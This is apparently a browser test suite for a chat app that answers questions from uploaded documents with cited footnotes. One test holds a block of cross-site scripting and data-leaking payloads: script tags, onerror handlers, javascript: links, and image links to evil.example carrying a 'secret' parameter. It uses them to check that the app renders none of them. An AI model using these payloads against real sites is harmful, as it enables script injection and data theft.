import re
import time
from pathlib import Path

import pytest
from playwright.sync_api import FilePayload, expect

from chat.handlers import UPDATES_PER_SECOND
from tests.browser.conftest import FUEL, Visitors
from tests.support.files import corrupt_pdf, rivers_pdf
from tests.support.provider import SOON_S, Provider, Script
from tests.support.server import Server

pytestmark = pytest.mark.slow

WORDS = tuple(f"word{number} " for number in range(100))

DRAG = """() => {
    const data = new DataTransfer();
    data.items.add(new File(["a"], "a.txt"));
    document.body.dispatchEvent(new DragEvent("dragenter", { dataTransfer: data, bubbles: true }));
}"""

COUNT_UPDATES = """() => {
    window.updates = 0;
    const text = () => [...document.querySelectorAll("[data-testid=bot]")].at(-1)?.textContent ?? "";
    let last = text();
    new MutationObserver(() => { if (text() !== last) { last = text(); window.updates += 1; } })
        .observe(document.body, { subtree: true, childList: true, characterData: true });
}"""


def test_an_example_question_is_answered_with_a_footnote_to_its_page(quoting: Server, visitors: Visitors) -> None:
    visitor = visitors.open(quoting)
    visitor.page.get_by_role("button", name=FUEL).click()
    visitor.wait_until_answered()
    assert "Fuel and electricity cost Harbour Line €3.98 million in 2025" in visitor.answer
    assert re.search(r"”\[\d+\]$", visitor.answer)
    cited = visitor.page.locator(".src.cited")
    expect(cited.first).to_contain_text("Harbour Line annual report 2025.pdf · page 4")
    expect(visitor.page.locator(".others summary").first).to_contain_text("more passages found, not cited")
    assert visitor.errors == []


def test_the_page_shows_when_it_searches_and_when_it_writes(
    writing: Server, model: Provider, visitors: Visitors
) -> None:
    model.script = Script(stall_at=0)
    visitor = visitors.open(writing)
    visitor.ask(FUEL)
    step = visitor.page.locator(".step.busy")
    expect(step).to_have_text(re.compile(r"Searched 5 documents, \d+ passages, \d+ ms: .+ and 2 more · writing"))
    visitor.page.get_by_role("button", name="Stop").click()
    expect(visitor.page.locator(".step")).not_to_have_class(re.compile("busy"))


def test_the_page_is_updated_at_most_fifteen_times_a_second_without_losing_tokens(
    writing: Server, model: Provider, visitors: Visitors
) -> None:
    model.script = Script(tokens=WORDS, delay_s=0.01)
    visitor = visitors.open(writing)
    visitor.page.evaluate(COUNT_UPDATES)
    started = time.monotonic()
    visitor.ask(FUEL)
    visitor.wait_until_answered()
    took = time.monotonic() - started
    updates = visitor.page.evaluate("window.updates")
    assert visitor.answer == "".join(WORDS).strip()
    assert 4 <= updates <= took * UPDATES_PER_SECOND + 4


@pytest.mark.parametrize("stall_at", [0, 3])
def test_stop_closes_the_connection_to_a_silent_model_and_keeps_what_arrived(
    writing: Server, model: Provider, visitors: Visitors, stall_at: int
) -> None:
    model.script = Script(tokens=WORDS, stall_at=stall_at)
    visitor = visitors.open(writing)
    visitor.ask(FUEL)
    if stall_at:
        visitor.wait_for_text("word2")
    else:
        expect(visitor.page.locator(".step.busy")).to_contain_text("writing")
    pressed = time.monotonic()
    visitor.page.get_by_role("button", name="Stop").click()
    assert model.wait_until_left() - pressed < SOON_S
    visitor.wait_until_answered()
    expect(visitor.page.locator(".notice")).to_have_text("Stopped. The text so far stays.")
    assert visitor.answer == "".join(WORDS[:stall_at]).strip()


def test_retry_asks_the_same_question_again_in_place_of_the_answer(
    writing: Server, model: Provider, visitors: Visitors
) -> None:
    model.script = Script(tokens=("first",), drop_at=1)
    visitor = visitors.open(writing)
    visitor.ask(FUEL)
    expect(visitor.page.locator(".notice.failed")).to_contain_text("The connection to the model's server failed.")
    assert visitor.answer == "first"
    model.script = Script(tokens=("second ", "[1]"))
    visitor.page.get_by_role("button", name="Retry").click()
    expect(visitor.page.locator(".notice.failed")).to_have_count(0)
    visitor.wait_until_answered()
    assert visitor.answer == "second[1]"
    assert visitor.page.locator("[data-testid=user]").count() == 1


def test_a_follow_up_tells_the_model_what_was_said_before(writing: Server, model: Provider, visitors: Visitors) -> None:
    model.script = Script(tokens=("€3.98 million ", "[1]"))
    visitor = visitors.open(writing)
    visitor.ask(FUEL)
    visitor.wait_until_answered()
    visitor.ask("And in 2024?")
    expect(visitor.page.locator(".tools")).to_have_count(2)
    conversation = [(m["role"], m["content"]) for m in model.requests[-1].body["messages"] if m["role"] != "system"]
    assert conversation == [("user", FUEL), ("assistant", "€3.98 million"), ("user", FUEL.replace("2025", "2024"))]


def test_a_document_is_added_asked_kept_over_a_reload_and_deleted(
    quoting: Server, visitors: Visitors, tmp_path: Path
) -> None:
    file = tmp_path / "rivers.pdf"
    file.write_bytes(rivers_pdf())
    visitor = visitors.open(quoting)
    visitor.page.locator("input[type=file]").set_input_files(file)
    own = visitor.page.locator("#documents .own")
    expect(own).to_have_text([re.compile(r"rivers\.pdf2 pages · 2 passages · read in \d+\.\d s")])
    expect(visitor.page.get_by_role("button", name=FUEL)).to_be_hidden()
    visitor.ask("How long is the Rhine?")
    visitor.wait_until_answered()
    assert visitor.answer == "“The Rhine is 1,230 km long.”[1]"
    expect(visitor.page.locator(".src.cited")).to_contain_text("rivers.pdf · page 2")
    visitor.page.reload()
    expect(own).to_have_text([re.compile(r"rivers\.pdf")])
    own.get_by_role("button", name="Delete rivers.pdf").click()
    own.get_by_text("Delete?").click()
    expect(visitor.page.locator("#documents .hint")).to_contain_text("These are samples.")


def test_files_can_be_dropped_anywhere_and_a_bad_one_says_why(quoting: Server, visitors: Visitors) -> None:
    visitor = visitors.open(quoting)
    drop = """([files]) => {
        const data = new DataTransfer();
        for (const [name, bytes] of files) data.items.add(new File([new Uint8Array(bytes)], name));
        document.body.dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
    }"""
    files = [("rivers.pdf", list(rivers_pdf())), ("broken.pdf", list(corrupt_pdf())), ("empty.txt", [])]
    app = visitor.page.locator("#app")
    visitor.page.evaluate(DRAG)
    expect(app).to_have_class(re.compile("dropping"))
    visitor.page.evaluate(drop, [files])
    expect(app).not_to_have_class(re.compile("dropping"))
    expect(visitor.page.locator("#documents .bad")).to_have_text(
        [
            re.compile("The file is empty"),
            re.compile("“broken.pdf” is damaged and can't be opened"),
        ],
        use_inner_text=True,
    )
    expect(visitor.page.locator("#documents .own")).to_contain_text("rivers.pdf")


def test_two_visitors_see_their_own_documents_and_answers_only(
    quoting: Server, visitors: Visitors, tmp_path: Path
) -> None:
    file = tmp_path / "rivers.pdf"
    file.write_bytes(rivers_pdf())
    one, other = visitors.open(quoting), visitors.open(quoting)
    one.page.locator("input[type=file]").set_input_files(file)
    expect(one.page.locator("#documents .own")).to_have_text([re.compile("rivers.pdf")])
    other.page.reload()
    expect(other.page.locator("#documents .hint")).to_contain_text("These are samples.")
    one.ask("How long is the Nile?")
    other.ask(FUEL)
    one.wait_until_answered()
    other.wait_until_answered()
    assert "Nile is 6,650 km long" in one.answer
    assert "€3.98 million" in other.answer
    assert "Nile" not in other.page.inner_text("body")


HOSTILE = (
    '<script>window.pwned = 1</script><img src="https://evil.example/a.png" onerror="window.pwned = 1">'
    "![picture](https://evil.example/b.png?q=secret) [link](https://evil.example/c) "
    '<form action="https://evil.example"><input name=x></form><style>body{display:none}</style> '
    "![ref][1] `<img src=https://evil.example/d.png>` \\`<img src=https://evil.example/e.png>\\` "
    '<iframe src="https://evil.example"></iframe> <a href="javascript:window.pwned=1">x</a>\n\n'
    "[1]: https://evil.example/f.png\n\n```\n<img src=https://evil.example/g.png>\n```\n"
)


def test_html_and_image_links_of_a_document_a_question_and_an_answer_do_nothing(
    writing: Server, model: Provider, visitors: Visitors, tmp_path: Path
) -> None:
    name = "<img src=x onerror=window.pwned=1>.md"
    visitor = visitors.open(writing)
    visitor.page.locator("input[type=file]").set_input_files(
        FilePayload(name=name, mimeType="text/markdown", buffer=f"The harbour is hostile. {HOSTILE}".encode())
    )
    expect(visitor.page.locator("#documents .own")).to_contain_text(["<img src=x onerror=window.pwned=1>.md"])
    model.script = Script(tokens=(*HOSTILE, "The harbour is hostile ", "[1]"))
    visitor.ask(f"What is the harbour? {HOSTILE}")
    visitor.wait_until_answered()
    visitor.page.locator("a.fn").last.click()
    expect(visitor.page.locator("#viewer .text")).to_contain_text("The harbour is hostile")
    inside = ":is([role=log], #viewer) :is(script, img, iframe, form, input, style, object, svg image)"
    assert visitor.page.locator(inside).count() == 0
    links = visitor.page.locator("[role=log] .message a[href]:not([href^='#'])")
    assert [
        link.get_attribute("href") for link in links.all() if "javascript" in (link.get_attribute("href") or "")
    ] == []
    assert visitor.page.evaluate("window.pwned") is None
    assert visitor.page.locator("body").is_visible()
    assert visitor.errors == []


def test_copy_gives_the_answer_with_its_footnotes_and_sources(
    writing: Server, model: Provider, visitors: Visitors
) -> None:
    model.script = Script(tokens=("It cost **€3.98 million** ", "[1]", "."))
    visitor = visitors.open(writing)
    visitor.ask(FUEL)
    visitor.wait_until_answered()
    visitor.page.get_by_role("button", name="Copy").click()
    visitor.page.get_by_text("Copied").wait_for()
    copied = visitor.page.evaluate("navigator.clipboard.readText()")
    assert re.fullmatch(r"It cost €3\.98 million \[1\]\.\n\n\[1\] .+ · page \d+", copied)


COPIED = """## Costs

3. third [1]
4. *fourth*
   - `a[1]`
   - ~~old~~

```
def f(x):
    return x[1]
```

| Year | Cost |
| --- | --- |
| 2025 | 5 [1] |

> It was **high**.
> Very."""


def test_copy_gives_markdown_without_stars_beside_formatted_text(
    writing: Server, model: Provider, visitors: Visitors
) -> None:
    model.script = Script(tokens=(COPIED.replace("> Very.", "> Very.\n"),))
    visitor = visitors.open(writing)
    visitor.ask(FUEL)
    visitor.wait_until_answered()
    visitor.page.get_by_role("button", name="Copy").click()
    visitor.page.get_by_text("Copied").wait_for()
    script = """async (type) => (await (await navigator.clipboard.read())[0].getType(type)).text()"""
    markdown = str(visitor.page.evaluate(script, "text/plain"))
    assert markdown.rpartition("\n\n")[0] == re.sub(r"\*+", "", COPIED).replace(".\n> Very", ". Very")
    html = str(visitor.page.evaluate(script, "text/html"))
    assert '<ol start="3"><li>third [1]</li>' in html
    assert "<pre><code>def f(x):\n    return x[1]" in html
    assert "class=" not in html


DOUBTED = (
    "Ships are **fast and quiet**. The cost was €9.99 million [1].\n\n- It is `green` paint\n\n",
    "| Ship | Place |\n| --- | --- |\n| Pelican [1] | Oslo |\n",
)


def test_sentences_that_their_sources_do_not_support_are_marked_with_the_reason(
    writing: Server, model: Provider, visitors: Visitors
) -> None:
    model.script = Script(tokens=DOUBTED)
    visitor = visitors.open(writing, width=390, height=844)
    visitor.ask(FUEL)
    visitor.wait_until_answered()
    signs = visitor.page.locator("[data-testid=bot] a.why")
    assert [sign.get_attribute("title") for sign in signs.all()] == [
        "No source is given for this sentence",
        "Not in the source, or different there: “€9.99 million”",
        "No source is given for this sentence",
        "Not in the source, or different there: “Pelican”, “Oslo”",
    ]
    uncited = "".join(visitor.page.locator(".doubt.uncited").all_inner_texts())
    assert uncited == "Ships are fast and quiet.It is  paint"
    assert visitor.page.locator("td .doubt.unsupported").all_inner_texts() == ["Pelican", "Oslo"]
    assert visitor.page.locator("[data-testid=bot] strong").inner_text() == "fast and quiet"
    expect(visitor.page.locator(".tools")).to_contain_text("0 of 4 sentences match their sources")
    signs.nth(1).focus()
    expect(signs.nth(1)).to_have_role("note")
    reason = "getComputedStyle(document.activeElement, '::after').content"
    assert "€9.99 million" in visitor.page.evaluate(reason)
    assert visitor.page.evaluate("document.documentElement.scrollWidth") == 390
    visitor.page.get_by_role("button", name="Copy").click()
    visitor.page.get_by_text("Copied").wait_for()
    assert "supported" not in visitor.page.evaluate("navigator.clipboard.readText()")
    assert visitor.errors == []


def test_a_supported_sentence_is_not_marked(quoting: Server, visitors: Visitors) -> None:
    visitor = visitors.open(quoting)
    visitor.ask(FUEL)
    visitor.wait_until_answered()
    expect(visitor.page.locator(".tools")).to_contain_text(
        re.compile(r"matches its sources|(\d) of \1 sentences match")
    )
    assert visitor.page.locator("a.why, .doubt").count() == 0


def test_what_is_typed_while_an_answer_comes_stays(writing: Server, model: Provider, visitors: Visitors) -> None:
    model.script = Script(tokens=WORDS, delay_s=0.02)
    visitor = visitors.open(writing)
    visitor.ask(FUEL)
    visitor.wait_for_text("word2")
    visitor.page.locator("#question textarea").fill("And in 2024?")
    visitor.wait_until_answered()
    expect(visitor.page.locator("#question textarea")).to_have_value("And in 2024?")


def test_starting_anew_in_the_middle_of_an_answer_stops_it(
    writing: Server, model: Provider, visitors: Visitors
) -> None:
    model.script = Script(tokens=WORDS, stall_at=3)
    visitor = visitors.open(writing)
    visitor.ask(FUEL)
    visitor.wait_for_text("word2")
    visitor.page.get_by_role("button", name="Clear").click()
    model.wait_until_left()
    expect(visitor.page.locator("[data-testid=bot]")).to_have_count(0)
    model.script = Script()
    visitor.ask(FUEL)
    visitor.wait_until_answered()


def test_a_conversation_can_be_started_anew(writing: Server, model: Provider, visitors: Visitors) -> None:
    visitor = visitors.open(writing)
    visitor.ask(FUEL)
    visitor.wait_until_answered()
    visitor.page.get_by_role("button", name="Clear").click()
    expect(visitor.page.locator("[data-testid=bot]")).to_have_count(0)
    visitor.ask("And in 2024?")
    visitor.wait_until_answered()
    assert [m["role"] for m in model.requests[-1].body["messages"]] == ["system", "user"]


@pytest.mark.parametrize("question", ["", "   \n  "])
def test_an_empty_question_asks_nothing(quoting: Server, visitors: Visitors, question: str) -> None:
    visitor = visitors.open(quoting)
    visitor.ask(question)
    visitor.page.get_by_role("button", name="Ask").click()
    visitor.ask(FUEL)
    visitor.wait_until_answered()
    assert visitor.page.locator("[data-testid=user]").count() == 1


def test_a_question_that_is_too_long_is_refused_in_words(quoting: Server, visitors: Visitors) -> None:
    visitor = visitors.open(quoting)
    visitor.ask("long " * 1000)
    expect(visitor.page.locator(".notice.failed")).to_contain_text("longer than 4,000 characters")


def test_the_page_fits_a_phone_and_keeps_documents_behind_one_button(quoting: Server, visitors: Visitors) -> None:
    visitor = visitors.open(quoting, width=390, height=844)
    assert visitor.page.evaluate("document.documentElement.scrollWidth") == 390
    panel = visitor.page.locator("#documents-panel")
    expect(panel).to_be_hidden()
    visitor.page.get_by_role("button", name="Samples").click()
    expect(panel).to_be_visible()
    visitor.ask(FUEL)
    visitor.wait_until_answered()
    assert visitor.page.evaluate("document.documentElement.scrollWidth") == 390


CONVERSION = """() => {
    const field = document.querySelector("textarea[data-testid=textbox]");
    const key = { key: "Enter", code: "Enter", bubbles: true, cancelable: true };
    field.dispatchEvent(new CompositionEvent("compositionstart", { bubbles: true }));
    field.dispatchEvent(new CompositionEvent("compositionend", { bubbles: true, data: "日本語" }));
    field.dispatchEvent(new KeyboardEvent("keydown", { ...key, keyCode: 229 }));
    field.dispatchEvent(new KeyboardEvent("keypress", { ...key, keyCode: 13 }));
}"""


def test_an_enter_that_takes_a_word_of_an_input_method_asks_nothing(quoting: Server, visitors: Visitors) -> None:
    visitor = visitors.open(quoting)
    field = visitor.page.locator("textarea[data-testid=textbox]").first
    field.fill("日本語")
    visitor.page.evaluate(CONVERSION)
    field.press("Shift+Enter")
    expect(field).to_have_value("日本語\n")
    expect(visitor.page.locator("[data-testid=user]")).to_have_count(0)
    field.press("Enter")
    expect(visitor.page.locator("[data-testid=user]")).to_have_count(1)
    assert visitor.errors == []
